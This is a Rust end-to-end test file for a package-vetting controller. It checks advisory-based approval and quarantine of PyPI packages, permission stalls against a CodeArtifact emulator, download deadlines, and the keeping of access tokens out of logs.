#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn without_advisory_data_requests_wait_and_are_decided_when_it_arrives() {
    let (reg, dev) = start(
        "late-osv",
        &[
            "--advisories-url",
            "{registry}/late-osv/",
            "--advisories-refresh",
            "1s",
        ],
    )
    .await;
    fixture_wheel(&reg, "plain-lib", "1.0.0");
    fixture_wheel(&reg, "duckdb", "0.1.0");
    let serve = reg.clone();
    tokio::task::spawn_blocking(move || {
        dev.apply(&request("plain-lib", "pypi", "plain-lib", "1.0.0", "local"));
        let r = dev.wait_phase("team-a", "plain-lib", "AwaitingApproval");
        let msg = condition(&r, "Ready")["message"]
            .as_str()
            .unwrap_or("")
            .to_string();
        assert!(msg.contains("no PyPI advisory data is loaded"), "{msg}");
        assert!(msg.contains("spec.advisories.required"), "{msg}");
        let rules: Vec<&str> = r["status"]["decision"]["findings"]
            .as_array()
            .into_iter()
            .flatten()
            .filter_map(|f| f["rule"].as_str())
            .collect();
        assert_eq!(rules, ["advisories.unavailable"]);

        // The export appears upstream: downloaded, verified, loaded, and the request decided.
        serve.route(
            "/late-osv/PyPI/all.zip",
            "application/zip",
            registry::osv_export_pypi(),
            Fault::default(),
        );
        serve.route(
            "/late-osv/npm/all.zip",
            "application/zip",
            registry::osv_export(&[registry::npm_placeholder_record()]),
            Fault::default(),
        );
        let r = dev.wait_phase("team-a", "plain-lib", "Published");
        assert_eq!(r["status"]["decision"]["reason"], "no findings", "{r}");
        assert!(dev.dir.join("advisories/PyPI/all.zip").is_file());

        // A version a downloaded record scores critical is denied.
        dev.apply(&request("old-duckdb", "pypi", "duckdb", "0.1.0", "local"));
        let r = dev.wait_phase("team-a", "old-duckdb", "Rejected");
        let msg = condition(&r, "Denied")["message"]
            .as_str()
            .unwrap_or("")
            .to_string();
        assert!(msg.contains("PYSEC-2024-25"), "{msg}");
    })
    .await
    .expect("join");
}

/// The CodeArtifact token the controller obtains never reaches its log, even with the AWS SDK's
/// and the HTTP stack's TRACE turned on (they print whole responses there).
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn the_codeartifact_token_stays_out_of_the_log_at_trace() {
    let (reg, dev) = start_logging(
        "token-trace",
        &[],
        "info,kube=warn,aws_smithy_runtime=trace,aws_smithy_runtime_api=trace,aws_sigv4=trace,aws_smithy_http_client=trace,hyper=trace,hyper_util=trace",
    )
    .await;
    fixture_wheel(&reg, "tidy-lib", "1.0.0");
    tokio::task::spawn_blocking(move || {
        dev.apply(&request(
            "into-ca",
            "pypi",
            "tidy-lib",
            "1.0.0",
            "pypi-approved",
        ));
        dev.wait_phase("team-a", "into-ca", "Published");
        let log = std::fs::read_to_string(dev.dir.join("dev.log")).expect("the whole log");
        assert!(
            log.contains("aws_smithy_runtime"),
            "the SDK's targets are enabled: the filter, not RUST_LOG, keeps TRACE out"
        );
        // The emulator's tokens all begin so.
        assert!(
            !log.contains("eyJ2ZXIiOjEsImlzdSI6"),
            "a CodeArtifact token in the log"
        );
        assert!(
            !log.contains("x-amz-security-token"),
            "signed headers in the log"
        );
    })
    .await
    .expect("join");
}

/// What the built-in repository kept after its request was deleted is re-checked after a
/// restart too: an advisory that arrived while `airlock dev` was stopped quarantines it (the
/// starter repository `builtin` unlists on quarantine) once it is back.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_restart_rechecks_what_the_repository_kept() {
    let advisories = tmp("e2e-osv-restart");
    let real = std::path::Path::new(env!("CARGO_MANIFEST_DIR"))
        .join("tests/data/osv/PyPI/PYSEC-2005-1.json");
    std::fs::copy(&real, advisories.join("PYSEC-2005-1.json")).expect("copy a record");
    let adv = advisories.to_string_lossy().into_owned();
    let (reg, mut dev) = start("restart", &["--advisories", &adv]).await;
    fixture_wheel(&reg, "kept-lib", "2.0.0");
    tokio::task::spawn_blocking(move || {
        dev.apply(&request("kept-lib", "pypi", "kept-lib", "2.0.0", "builtin"));
        dev.wait_phase("team-a", "kept-lib", "Published");
        delete_request(&dev, "kept-lib");
        let index = format!("{}kept-lib/", dev.var("PIP_INDEX_URL"));
        let (_, body) = http_get(&index);
        assert!(
            body.contains("kept_lib-2.0.0-py3-none-any.whl"),
            "Retain keeps it: {body}"
        );
        // Stopped; an advisory arrives meanwhile; started again on the same data directory.
        let before = dev.var("PIP_INDEX_URL").to_string();
        dev.stop();
        malicious_record(&advisories, "MAL-2026-4444", "kept-lib", "2.0.0");
        dev.restart();
        assert_eq!(
            dev.var("PIP_INDEX_URL"),
            before,
            "the same URL after the restart"
        );
        wait_unlisted(&index, "kept_lib-2.0.0-py3-none-any.whl");
        assert!(
            dev.event_reasons("default", "builtin")
                .iter()
                .any(|r| r == "Quarantined"),
            "{:?}",
            dev.event_reasons("default", "builtin")
        );
    })
    .await
    .expect("join");
}

/// A role without a permission, against the emulator as against AWS: the request stalls naming
/// the permission to grant, nothing is published, and once granted a forced reconcile publishes.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_denied_codeartifact_permission_stalls_naming_it_and_a_reconcile_recovers() {
    let (reg, dev) = start("denied", &[]).await;
    fixture_wheel(&reg, "tidy-lib", "1.0.0");
    tokio::task::spawn_blocking(move || {
        let deny = |ops: &str| {
            let url = format!("{}/_emulator/deny", dev.var("AWS_ENDPOINT_URL"));
            let (code, body) =
                common::dev::http_request("POST", &url, &format!("{{\"operations\": {ops}}}"));
            assert_eq!(code, 200, "{body}");
        };
        deny(r#"["PutPackageOriginConfiguration"]"#);
        dev.apply(&request(
            "denied",
            "pypi",
            "tidy-lib",
            "1.0.0",
            "pypi-approved",
        ));
        let r = dev.wait_for(
            "team-a",
            "denied",
            Duration::from_secs(60),
            "Stalled",
            |r| condition(r, "Stalled")["status"] == "True",
        );
        let msg = condition(&r, "Stalled")["message"]
            .as_str()
            .unwrap_or("")
            .to_string();
        assert!(
            msg.contains("grant the controller's role codeartifact:PutPackageOriginConfiguration"),
            "{msg}"
        );
        assert_eq!(condition(&r, "Stalled")["reason"], "PublishFailed");
        assert_ne!(r["status"]["phase"], "Published");
        deny("[]");
        let out = dev.kubectl(
            &[
                "annotate",
                "pkgreq",
                "denied",
                "-n",
                "team-a",
                "--overwrite",
                "airlock.dev/reconcile-requested-at=2026-12-01T21:00:00Z",
            ],
            None,
        );
        assert!(
            out.status.success(),
            "{}",
            String::from_utf8_lossy(&out.stderr)
        );
        let r = dev.wait_phase("team-a", "denied", "Published");
        assert_eq!(kstatus(&r), "Current");

        // A deletion policy that keeps failing is retried with back-off (5 s, 10 s, …), the
        // count in status, and the request goes once the policy can be applied.
        deny(r#"["UpdatePackageVersionsStatus"]"#);
        let out = dev.kubectl(
            &["delete", "pkgreq", "denied", "-n", "team-a", "--wait=false"],
            None,
        );
        assert!(
            out.status.success(),
            "{}",
            String::from_utf8_lossy(&out.stderr)
        );
        let r = dev.wait_for(
            "team-a",
            "denied",
            Duration::from_secs(30),
            "retried twice",
            |r| r["status"]["failures"].as_u64().unwrap_or(0) >= 2,
        );
        let failed = dev
            .event_reasons("team-a", "denied")
            .iter()
            .filter(|r| *r == "DeletionPolicyFailed")
            .count();
        assert!(
            failed <= 3,
            "{failed} attempts by now: not backing off ({})",
            r["status"]
        );
        deny("[]");
        let deadline = std::time::Instant::now() + Duration::from_secs(60);
        while dev
            .get_json(&["pkgreq", "denied", "-n", "team-a"])
            .is_some()
        {
            assert!(
                std::time::Instant::now() < deadline,
                "the request stays after the policy can apply"
            );
            std::thread::sleep(Duration::from_millis(250));
        }
    })
    .await
    .expect("join");
}

/// `kubectl delete pkgreq NAME -n team-a`, which must finish (the finalizer let go).
fn delete_request(dev: &Dev, name: &str) {
    let out = dev.kubectl(
        &["delete", "pkgreq", name, "-n", "team-a", "--timeout=30s"],
        None,
    );
    assert!(
        out.status.success(),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
}

/// A MAL record for `name` `version`, renamed into the advisory directory as sync jobs do.
fn malicious_record(dir: &std::path::Path, id: &str, name: &str, version: &str) {
    let record = json!({
        "schema_version": "1.6.0", "id": id, "modified": "2026-11-02T00:00:00Z",
        "summary": format!("Malicious code in {name} (PyPI)"),
        "affected": [{"package": {"ecosystem": "PyPI", "name": name}, "versions": [version]}],
    });
    let tmp_file = dir.join(format!(".{id}.json.tmp"));
    std::fs::write(&tmp_file, record.to_string()).expect("write");
    std::fs::rename(&tmp_file, dir.join(format!("{id}.json"))).expect("rename");
}

/// Waits (a minute at most) until the PyPI project page at `index` no longer lists `filename`.
fn wait_unlisted(index: &str, filename: &str) {
    let deadline = std::time::Instant::now() + Duration::from_secs(60);
    loop {
        let (_, body) = http_get(index);
        if !body.contains(filename) {
            return;
        }
        assert!(
            std::time::Instant::now() < deadline,
            "still listed after a minute: {body}"
        );
        std::thread::sleep(Duration::from_millis(250));
    }
}

/// A registry that trickles bytes cannot hold a pipeline slot past the download's deadline, and
/// deleting a request does not wait for its download: the download stops, the finalizer runs.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_trickling_download_meets_its_deadline_and_a_delete_stops_it() {
    let (reg, dev) = start(
        "trickle",
        &[
            "--download-deadline",
            "15s",
            "--download-min-rate",
            "1048576",
        ],
    )
    .await;
    for name in ["slow-lib", "slow-too"] {
        let module = name.replace('-', "_");
        let filename = format!("{module}-1.0.0-py3-none-any.whl");
        reg.route(
            &format!("/files/{filename}.metadata"),
            "text/plain",
            archives::core_metadata(name, "1.0.0").into_bytes(),
            Fault::default(),
        );
        reg.add_pypi_file(
            name,
            &filename,
            archives::wheel(name, "1.0.0", "X = 1\n"),
            Fault {
                trickle: Some(Duration::from_millis(200)),
                ..Fault::default()
            },
            json!({}),
        );
    }
    tokio::task::spawn_blocking(move || {
        dev.apply(&request("slow-lib", "pypi", "slow-lib", "1.0.0", "local"));
        let deadline = std::time::Instant::now() + Duration::from_secs(60);
        let message = loop {
            let r = dev
                .get_json(&["pkgreq", "slow-lib", "-n", "team-a"])
                .expect("request");
            let m = condition(&r, "Ready")["message"]
                .as_str()
                .unwrap_or("")
                .to_string();
            if m.contains("by the deadline for its size") {
                break m;
            }
            assert!(
                std::time::Instant::now() < deadline,
                "no deadline after a minute: {r}"
            );
            std::thread::sleep(Duration::from_millis(250));
        };
        assert!(message.contains("retrying in"), "{message}");

        // Deleting a request whose download is in flight takes far less than the deadline.
        dev.apply(&request("slow-too", "pypi", "slow-too", "1.0.0", "local"));
        let deadline = std::time::Instant::now() + Duration::from_secs(30);
        while dev
            .get_json(&["pkgreq", "slow-too", "-n", "team-a"])
            .expect("request")["status"]["phase"]
            != "Fetching"
        {
            assert!(std::time::Instant::now() < deadline, "never fetching");
            std::thread::sleep(Duration::from_millis(100));
        }
        let out = dev.kubectl(
            &[
                "delete",
                "pkgreq",
                "slow-too",
                "-n",
                "team-a",
                "--timeout=8s",
            ],
            None,
        );
        assert!(
            out.status.success(),
            "the delete waited for the download: {}",
            String::from_utf8_lossy(&out.stderr)
        );
        assert!(
            dev.get_json(&["pkgreq", "slow-too", "-n", "team-a"])
                .is_none()
        );
    })
    .await
    .expect("join");
}
